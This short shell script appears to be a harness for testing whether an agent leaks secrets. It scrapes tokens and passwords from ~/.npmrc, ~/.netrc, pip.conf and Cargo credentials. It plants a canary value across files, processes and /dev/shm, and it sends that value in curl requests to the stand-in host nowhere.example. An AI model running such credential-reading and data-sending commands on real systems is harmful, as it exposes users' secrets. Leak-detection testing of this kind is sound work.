# Uses every secret that it is told of with four clients, keeps what they were
# answered, and plants a value that nobody keeps, wherever an agent can.
set -eu
set -a
. ./.env
. ./api/.env.local
TOOL_NPM=$(sed -n 's/.*_authToken=//p' ~/.npmrc)
TOOL_NETRC=$(sed -n 's/.* password //p' ~/.netrc)
TOOL_PIP=$(sed -n 's,.*://bob:\([^@]*\)@.*,\1,p' ~/.config/pip/pip.conf)
TOOL_CARGO=$(sed -n 's/^token = "\(.*\)"/\1/p' ~/.cargo/credentials.toml)
set +a

for client in 'sh curl.sh' 'python3 client.py' 'node client.mjs' ./gocall; do
	$client || echo "failed: $client"
done | tee answers.txt
for copy in "$HOME/answers" /tmp/answers /var/tmp/answers /dev/shm/answers; do cp answers.txt "$copy"; done

for plant in planted.txt "$HOME/planted" /tmp/planted /var/tmp/planted /dev/shm/planted; do cp canary.txt "$plant"; done
cp canary.txt /tmp/gone
exec 9</tmp/gone
rm /tmp/gone
for form in $(cat canary.txt); do curl -sS -o /dev/null "https://nowhere.example/$form"; done
CANARY=$(cat canary.txt) sleep 600 &
python3 -c 'import time; time.sleep(600)' "$(cat canary.txt)" &
cat canary.txt
echo
echo planted
until [ -e /tmp/looked ]; do sleep 0.05; done
